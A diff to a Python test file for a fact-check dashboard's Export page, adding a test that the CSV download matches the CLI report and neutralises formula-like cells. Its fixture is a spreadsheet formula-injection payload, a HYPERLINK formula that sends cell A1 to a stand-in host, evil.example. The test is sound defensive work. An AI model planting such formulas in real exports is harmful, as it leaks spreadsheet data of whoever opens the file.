@@ -1,9 +1,11 @@
 """Page "Export": JSON, CSV and Markdown downloads equal to what factcheck.report (the CLI's report) writes."""
 from __future__ import annotations
 
+import csv
+import io
 import json
 
-from ui_support import app, errors, fake_factcheck, no_exceptions, seed
+from ui_support import app, errors, fake_factcheck, load_articles, no_exceptions, seed
 
 from factcheck import report
 from factcheck.settings import Settings
@@ -50,3 +52,29 @@ def test_no_source_chosen_is_an_error(tmp_path, monkeypatch):
     at.multiselect(key="fc_export_sources").set_value([]).run()
     no_exceptions(at)
     assert "at least one source" in at.error[0].value
+
+
+def test_csv_download_neutralises_formulas_like_the_cli(tmp_path, monkeypatch):
+    """The dashboard's CSV is report.to_csv, as the CLI's: a source named like a formula is served as text."""
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    served: dict[str, bytes] = {}
+    keep = MemoryMediaFileStorage.load_and_get_id
+
+    def record(self, path_or_data, mimetype, kind, filename=None):
+        if filename and isinstance(path_or_data, bytes):
+            served[filename] = path_or_data
+        return keep(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Daily Planet")'
+    articles = load_articles()
+    articles[0] = {**articles[0], "source": evil}
+    seed(tmp_path, articles)
+    at = app(monkeypatch, tmp_path, page="export")
+    no_exceptions(at)
+    body = served["factcheck-report.csv"].decode("utf-8")
+    cons = fake_factcheck(Settings.from_env(tmp_path)).compare()
+    assert body == report.to_csv(consistency=cons)
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'" + evil in cells and evil not in cells
